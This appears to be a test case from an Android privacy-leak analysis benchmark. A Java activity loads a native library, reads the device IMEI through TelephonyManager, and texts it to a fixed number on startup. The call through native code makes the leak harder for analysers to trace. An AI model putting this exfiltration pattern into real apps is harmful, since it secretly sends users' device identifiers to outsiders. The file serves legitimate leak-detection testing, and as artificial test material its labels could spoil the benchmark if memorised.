// about       Native code calls TelephonyManager.getDeviceId and gives its result back; Java sends it.
// leak        DEV_IMEI sms
// native      ReadInNative_leak.c
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  static {
    System.loadLibrary("ReadInNative_leak");
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    String text = read((TelephonyManager) getSystemService(TELEPHONY_SERVICE));
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }

  private native String read(TelephonyManager phone);
}
